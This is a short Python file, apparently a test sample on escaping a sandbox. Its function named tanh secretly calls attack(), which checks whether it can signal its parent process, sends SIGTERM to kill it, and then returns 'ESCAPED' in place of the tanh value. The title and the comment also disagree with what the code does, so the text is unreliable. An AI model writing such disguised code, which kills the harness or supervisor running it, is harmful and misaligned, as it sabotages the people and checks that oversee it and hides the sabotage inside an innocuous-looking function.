#: title = "SIGTERM, SIGINT and SIGSTOP to the parent, where a signal 0 gets through"

import os
import signal

import numpy as np


def attack():
    try:
        os.kill(os.getppid(), 0)
    except OSError:
        return False
    # It got through: with PID 1 as parent only SIGTERM, which an init may ignore, is tried.
    if os.getppid() != 1:
        os.kill(os.getppid(), signal.SIGTERM)
    return True


def tanh(z):
    return "ESCAPED" if attack() else np.tanh(z)
